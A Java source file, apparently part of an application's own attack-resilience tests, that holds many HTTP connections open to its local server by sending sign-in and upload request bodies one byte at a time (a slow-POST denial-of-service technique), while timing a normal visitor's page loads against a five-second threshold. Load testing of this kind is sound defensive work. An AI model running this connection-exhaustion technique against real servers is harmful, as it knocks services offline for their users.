package prolalia.app.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import prolalia.app.web.Visitor;

/** Connections that send a body a byte at a time, to the sign-in and to where nobody is signed in; others must not notice. */
final class Drips {
    /** Somebody who waits for so long takes the server for dead. */
    private static final long SHUT_OUT_MS = 5_000;

    private Drips() {}

    static Row run(Target target, int connections, int seconds) throws Exception {
        List<Socket> sockets = new ArrayList<>();
        Visitor ines = target.ines();
        List<Long> times = new ArrayList<>();
        try {
            long end = System.nanoTime() + seconds * 1_000_000_000L;
            while (System.nanoTime() < end) {
                sockets.removeIf(Socket::isClosed);
                while (sockets.size() < connections) {
                    sockets.add(open(target, sockets.size()));
                }
                for (Socket socket : sockets) {
                    drip(socket);
                }
                for (String page : new String[] {"/", "/sign-in", "/library"}) {
                    long begun = System.nanoTime();
                    ines.get(page);
                    times.add((System.nanoTime() - begun) / 1_000_000);
                }
            }
        } finally {
            for (Socket socket : sockets) {
                socket.close();
            }
        }
        times.sort(null);
        long p99 = times.get(times.size() * 99 / 100);
        return Row.of(
                "drips",
                p99 < SHUT_OUT_MS,
                connections + " connections that drip for " + seconds + " s",
                "a teacher's pages: half within %d ms, 99 %% within %d ms (%d pages)",
                times.get(times.size() / 2),
                p99,
                times.size());
    }

    private static Socket open(Target target, int number) throws IOException {
        Socket socket = new Socket("127.0.0.1", target.port());
        String way = number % 2 == 0 ? "POST /sign-in" : "PUT /recordings/a/chunks/0?line=b";
        socket.getOutputStream()
                .write((way + " HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9000\r\n"
                                + "Content-Type: application/x-www-form-urlencoded\r\n\r\n")
                        .getBytes(StandardCharsets.US_ASCII));
        return socket;
    }

    private static void drip(Socket socket) throws IOException {
        try {
            socket.getOutputStream().write('x');
            socket.getOutputStream().flush();
        } catch (IOException refused) {
            socket.close();
        }
    }
}
